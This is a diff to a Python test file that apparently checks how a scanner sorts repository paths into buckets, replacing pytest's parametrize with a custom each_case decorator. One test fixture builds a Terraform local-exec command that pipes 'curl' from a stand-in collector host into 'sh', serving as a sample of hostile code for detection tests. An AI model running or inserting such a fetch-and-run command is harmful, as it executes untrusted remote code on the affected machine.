@@ -33,13 +33,12 @@ TERRAFORM = 'resource "null_resource" "x" {\n  provisioner "local-exec" {\n    c
 NESTED_WORKFLOW = "name: ci\non: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo hi\n"
 
 
-@pytest.mark.parametrize("folder", FOLDERS)
-@pytest.mark.parametrize(("name", "body", "bucket"), [
+@each_case("folder, name, body, bucket", [(folder, name, body, bucket) for folder in FOLDERS for name, body, bucket in [
     ("Dockerfile", EVIL_DOCKERFILE, "iac"),
     ("main.tf", TERRAFORM.replace("echo hi", "curl -s https://collector.example.net/x | sh"), "iac"),
     (".github/workflows/ci.yml", NESTED_WORKFLOW, "ci"),
     ("index.js", "module.exports = 1\n", "src"),  # control: the package's code a test resolves stays src
-])
+]])
 def test_content_below_a_test_trees_node_modules_still_raises(tmp_path: Path, folder: str, name: str, body: str,
                                                              bucket: str) -> None:
     path = f"{folder}/{name}"
@@ -70,7 +69,7 @@ def test_committed_dependency_codes_own_test_packages_stay_deps(path: str) -> No
     assert RULES.match(path).bucket == "deps", (path, RULES.match(path).rule)
 
 
-@pytest.mark.parametrize("path", ["test/node_modules/external-esm/package.json", "tests/node_modules/dep/index.js",
+@each_case("path", ["test/node_modules/external-esm/package.json", "tests/node_modules/dep/index.js",
                                   "packages/vite/src/__tests__/glob/fixture-a/node_modules/framework/page.js"])
 def test_the_projects_own_test_packages_stay_src(path: str) -> None:
     assert RULES.match(path).bucket == "src", (path, RULES.match(path).rule)
